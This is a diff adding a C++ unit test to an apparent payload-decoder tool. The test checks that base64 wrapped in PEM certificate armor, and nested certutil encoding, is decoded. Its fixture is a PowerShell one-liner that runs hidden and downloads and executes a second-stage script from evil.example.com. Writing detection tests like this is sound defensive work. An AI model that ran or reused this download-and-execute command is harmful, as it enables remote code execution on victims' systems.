@@ -435,6 +435,30 @@ TEST(Decoder, GuidsAndHashesAreNoDeflateStreams) {
   EXPECT_TRUE(found);
 }
 
+// certutil -encode / PEM output: base64 wrapped at 64 columns between armor
+// lines. Joined across the line breaks, "CERTIFICATE-----" and "-----END" made
+// the run URL-safe junk and the payload was missed (msticpy decodes it).
+TEST(Decoder, ReadsArmoredWrappedBase64) {
+  const std::string payload =
+      "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
+      "'http://evil.example.com/stage2.ps1')\"";
+  const std::string b64 = Base64(payload);
+  std::string wrapped;
+  for (size_t k = 0; k < b64.size(); k += 64) wrapped += b64.substr(k, 64) + "\r\n";
+  const std::string pem =
+      "-----BEGIN CERTIFICATE-----\r\n" + wrapped + "-----END CERTIFICATE-----\r\n";
+  Decoder decoder;
+  bool direct = false;
+  for (const auto& l : decoder.Decode(pem))
+    direct = direct || (l.chain == "base64" && l.text == payload);
+  EXPECT_TRUE(direct);
+  bool nested = false;
+  for (const auto& l : decoder.Decode("certutil " + Base64(pem))) {
+    nested = nested || (l.chain == "base64 > base64" && l.text == payload);
+  }
+  EXPECT_TRUE(nested);
+}
+
 // gzip members follow one another in one stream (gzip(1), Python, .NET read
 // them all); only the first was decoded.
 TEST(Decoder, ReadsEveryGzipMember) {
